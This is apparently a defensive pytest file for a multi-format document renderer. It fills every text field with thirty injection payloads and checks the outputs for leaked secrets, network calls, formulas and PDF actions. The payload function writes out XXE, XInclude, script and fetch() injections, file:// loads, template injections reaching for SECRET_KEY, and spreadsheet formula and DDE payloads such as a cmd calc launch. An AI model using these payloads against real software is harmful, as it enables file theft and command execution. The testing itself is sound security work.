"""Thirty texts that try to read a file, to call out or to run, in every text of a document: they are printed."""

import csv
import io
import json as json_format
import re
import socket
import sys
import zipfile
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import msgspec
import pikepdf
import pytest
from made_up import bases

from disclosure.content import Content, canonical
from disclosure.document import Context, Document, Imprint
from disclosure.enums import FileFormat, TableFormat
from disclosure.render import RENDERERS, TABLE_RENDERERS

SECRET = "QUICKSILVER-canary-7f3a91"  # noqa: S105 what must not come out
SUM = "7784"
"""What a template would make of two of the payloads."""
pytestmark = pytest.mark.usefixtures("_pdfs_here")
STRUCTURE = {"format", "layout", "money_unit", "phase", "key", "kind", "table", "chart", "role", "as_of", "operator"}
"""What is chosen from a list of ours and not written by anybody."""
FIGURE = re.compile(r"-?\d+(\.\d+)?|n/a|")
STEP = 6
"""In how many documents each text holds a sixth of the payloads: after them, each payload has been in each text."""
WATCHED = ("socket.", "subprocess.", "os.exec", "os.system", "os.posix_spawn", "urllib.", "ftplib.", "http.client.")
ACTIONS = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/GoToR", "/ImportData", "/RichMediaExecute", "/Rendition"}


def payloads(path: str, port: int) -> tuple[str, ...]:
    """Return the thirty texts; ``path`` is a file with the secret, ``port`` one that listens and hopes."""
    file, web = f"file://{path}", f"http://127.0.0.1:{port}"
    return (
        f'<img src="{file}">',
        f'<img src="{web}/a.png" onerror="alert(1)">',
        f'<link rel="stylesheet" href="{file}">',
        f'<link rel="attachment" href="{file}">',
        f'<a rel="attachment" href="{file}">a</a>',
        f'<style>@import url("{web}/a.css");</style>',
        f"</style><style>body{{background:url({file})}}</style>",
        f'<object data="{file}" type="text/plain"></object>',
        f'<embed src="{file}">',
        f'<iframe src="{file}"></iframe>',
        f'<body background="{web}/b.png">',
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{file}" width="9" height="9"/></svg>',
        f'<svg><use xlink:href="{file}#a"/></svg>',
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
        f'"><script src="{web}/x.js"></script>',
        f"'><script>fetch('{web}')</script>",
        f'<meta http-equiv="refresh" content="0;url={web}">',
        f'<base href="{web}/">',
        f'<p style="list-style:url({file});content:url({web}/c)">p</p>',
        f'<video src="{web}/v" poster="{file}"></video>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{file}">]>&e;',
        f"]]><x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{file}' parse='text'/></x>",
        f"\\\\127.0.0.1@{port}\\share\\x.docx",
        f"ftp://127.0.0.1:{port}/x",
        "{{ 7777|add:7 }}{{ settings.SECRET_KEY }}",
        f'{{% include "{path}" %}}{{% with a=7777|add:7 %}}{{{{ a }}}}{{% endwith %}}',
        f'=HYPERLINK("{web}","点此")',
        f'=WEBSERVICE("{web}")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        f'+INCLUDETEXT("{path}")',
    )


def small() -> Content:
    """Return the sample, cut to one or two of everything it has."""
    base = bases()[0]
    kinds = {(tuple(one.kind for one in table.columns), bool(table.fields)): table for table in reversed(base.tables)}
    tables = [table for table in base.tables if any(table is one for one in kinds.values())][-4:]
    keys = {table.key for table in tables}
    cut = tuple(msgspec.structs.replace(one, rows=one.rows[-1:], empty_reason="没有安排") for one in tables)
    sections = []
    for section in base.sections:
        words = [one for one in section.blocks if not one.table and not one.chart][:2]
        drawn = [one for one in section.blocks if one.table in keys or one.chart]
        sections.append(msgspec.structs.replace(section, blocks=(*words, *drawn)))
    project = base.facts.projects[0]
    projects = (msgspec.structs.replace(project, indicators=project.indicators[:1]),)
    facts = msgspec.structs.replace(base.facts, projects=projects)
    return msgspec.structs.replace(base, sections=tuple(sections), tables=cut, facts=facts)


class Filler:
    """Puts a text into every text of a tree, each time the next of a list, and counts them."""

    def __init__(self, texts: tuple[str, ...], start: int) -> None:
        self.texts, self.at, self.kinds = texts, start, {}

    def following(self) -> str:
        """Return the next text."""
        self.at += 1
        return self.texts[self.at % len(self.texts)]

    def fill(self, value):
        """Return a tree of plain values with its texts replaced; figures and what is chosen from a list stay."""
        if isinstance(value, dict):
            figures = value.get("kind") in ("money", "number", "rate")
            skipped = STRUCTURE | {"value"} if figures else STRUCTURE
            return {key: one if key in skipped else self.fill(one) for key, one in value.items()}
        if isinstance(value, list):
            return [self.fill(one) for one in value]
        return self.following() if isinstance(value, str) and not FIGURE.fullmatch(value) else value


def filled(content: Content, texts: tuple[str, ...], start: int) -> tuple[Document, int]:
    """Return a document that says nothing but these texts, and in how many places."""
    filler = Filler(texts, start)
    plain = json_format.loads(canonical(content))
    for table in plain["tables"]:
        figures = {one["key"] for one in table["columns"] if one["kind"] in ("money", "number", "rate")}
        table["label"], unit = table["label"] or "表", table["unit"]
        for row in table["rows"]:
            own = {key: one if key in figures else one and filler.following() for key, one in row["cells"].items()}
            row["cells"], row["level"] = own, 1
        rows, table["rows"] = table["rows"], []
        table.update(filler.fill(table), unit=unit, rows=rows)
    tables, plain["tables"] = plain["tables"], []
    whole = {**filler.fill(plain), "tables": tables}
    document = Document(msgspec.convert(whole, Content), Context())
    said = [filler.following() for _ in range(5)]
    at, day = datetime(2022, 2, 1, 4, tzinfo=UTC), date(2022, 1, 31)
    imprint = Imprint(2, "correction", at, 1, said[0], document.sha256, said[1], said[2], said[3], said[4], day)
    document.context = Context(imprint=imprint)
    return document, filler.at - start


class Shape(HTMLParser):
    """The elements of a page with the names of their attributes, in order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list = []
        self.feed(page)

    def handle_starttag(self, tag, attrs) -> None:
        """Note an element."""
        self.found.append((tag, *(name for name, _ in attrs)))


def parts(data: bytes) -> dict[str, bytes]:
    """Return the members of an archive."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def office_shape(data: bytes):
    """Return what an office file asks for: external targets, formulas, fields and embedded parts."""
    members = parts(data)
    roots = [ET.fromstring(one) for name, one in members.items() if name.endswith((".xml", ".rels"))]  # noqa: S314 our own
    nodes = [node for root in roots for node in root.iter()]
    external = [node.get("Target") for node in nodes if node.get("TargetMode") == "External"]
    asked = sorted(
        (node.tag, node.text or "") for node in nodes if node.tag.endswith(("}f", "}instrText", "}hyperlink"))
    )
    return external, [one for one in asked if one[0].endswith(("}f", "}instrText"))], sorted(members)


def unpacked_pdf(data: bytes) -> tuple[bytes, set[str], list[str]]:
    """Return every stream of a PDF, the kinds of its actions, and the files in it."""
    streams, actions = [], set()
    with pikepdf.open(io.BytesIO(data)) as file:
        for one in file.objects:
            if isinstance(one, pikepdf.Stream):
                streams.append(one.read_bytes() if "/Subtype" not in one or one.Subtype != "/Image" else b"IMAGE")
            if isinstance(one, pikepdf.Dictionary):
                actions |= {str(one[name]) for name in ("/S",) if name in one} | (
                    {"/JavaScript"} if "/JS" in one else set()
                )
        return b"\n".join(streams), actions & ACTIONS, sorted(file.attachments)


def executable(cell: str) -> bool:
    """Tell a cell that a spreadsheet would take for a formula."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-[\d.]+", cell)


def cells(data: bytes) -> list[str]:
    """Read a CSV file as a spreadsheet does."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


@pytest.fixture
def canary(tmp_path):
    path = tmp_path / "canary.txt"
    path.write_text(SECRET, encoding="utf-8")
    return str(path)


@pytest.fixture
def listener():
    """A port of this machine that nobody should knock at."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(50)
        server.settimeout(0)
        yield server


WATCHING: list[list[str]] = []


def _overhear(event: str, arguments) -> None:
    if WATCHING and (event.startswith(WATCHED) or (event == "open" and "canary" in str(arguments[0]))):
        WATCHING[-1].append(event)


sys.addaudithook(_overhear)


@pytest.fixture
def overheard():
    """What Python itself says was opened, called or started meanwhile."""
    WATCHING.append([])
    yield WATCHING[-1]
    WATCHING.clear()


@pytest.fixture
def counted(monkeypatch):
    """Every socket that is made meanwhile."""
    made = []
    original = socket.socket

    def count(*arguments, **named):
        made.append(arguments)
        return original(*arguments, **named)

    monkeypatch.setattr(socket, "socket", count)
    return made


def drawn(document: Document):
    """Draw a document in every form, and each of its tables."""
    whole = {form: draw(document) for form, draw in RENDERERS.items()}
    tables = {
        form: [draw(document, table) for table in document.content.tables] for form, draw in TABLE_RENDERERS.items()
    }
    return whole, tables


def test_the_watch_hears_a_file_that_is_read_and_a_socket_that_is_made(canary, overheard, counted):
    with open(canary, encoding="utf-8") as file:  # noqa: PTH123 as a renderer might
        file.read()
    socket.socket().close()

    assert (overheard[0], len(counted)) == ("open", 1)
    assert "socket.__new__" in overheard


@pytest.mark.timeout(400)
def test_thirty_payloads_in_every_text_leak_nothing_and_call_nobody(canary, listener, overheard, counted):
    texts, base = payloads(canary, listener.getsockname()[1]), small()
    packed = tuple(" ".join((text, *texts[at % STEP :: STEP])) for at, text in enumerate(texts))
    harmless, places = filled(base, tuple(f"甲{number}" for number in range(len(texts))), 0)
    tame, _ = drawn(harmless)  # the first drawing of a process looks for its libraries
    overheard.clear()
    counted.clear()
    leaked = files = 0
    for start in range(STEP):
        document, _ = filled(base, packed, start)
        whole, tables = drawn(document)
        leaked += _inspect(document, whole, tables, tame)
        files += len(whole) + sum(map(len, tables.values()))

    with pytest.raises(BlockingIOError):
        listener.accept()
    print(f"\n{len(texts)} payloads x {places} texts, {files} files: {leaked} bytes leaked, {len(counted)} sockets")  # noqa: T201
    assert (len(set(texts)), places > 100, leaked, counted, overheard) == (30, True, 0, [], [])


def _inspect(document, whole, tables, tame) -> int:
    """Look into every file; return how many bytes of the secret are in them."""
    streams, actions, attached = unpacked_pdf(whole[FileFormat.PDF])
    assert (actions, attached) == (set(), ["document.json", "document.xlsx"])
    assert b"IMAGE" not in streams.split(b"\n")
    assert Shape(whole[FileFormat.HTML].decode()).found == Shape(tame[FileFormat.HTML].decode()).found
    for form in (FileFormat.DOCX, FileFormat.XLSX):
        assert office_shape(whole[form]) == office_shape(tame[form])
    said = json_format.loads(whole[FileFormat.JSON])
    assert [cell for data in tables[TableFormat.CSV] for cell in cells(data) if executable(cell)] == []
    assert canonical(document.content).encode() == msgspec.json.encode(
        msgspec.convert(said["content"], Content), order="sorted"
    )
    packed = [whole[FileFormat.DOCX], whole[FileFormat.XLSX], *tables[TableFormat.XLSX]]
    loose = [whole[FileFormat.HTML], whole[FileFormat.JSON], *tables[TableFormat.CSV], *tables[TableFormat.JSON]]
    everything = b"\n".join([streams, *loose, *(one for data in packed for one in parts(data).values())])
    assert SUM.encode() not in re.sub(rb"[0-9a-f]{16,}", b"", b"\n".join(loose))
    return everything.count(SECRET.encode()) * len(SECRET)


def test_each_payload_by_itself_in_every_cell_is_no_formula(canary):
    texts, base = payloads(canary, 9), small()

    for start in range(len(texts)):
        document, _ = filled(base, texts, start)
        for table in document.content.tables:
            plain = TABLE_RENDERERS[TableFormat.CSV](document, table)
            assert [cell for cell in cells(plain) if executable(cell)] == []
            assert b"<f>" not in b"".join(parts(TABLE_RENDERERS[TableFormat.XLSX](document, table)).values())
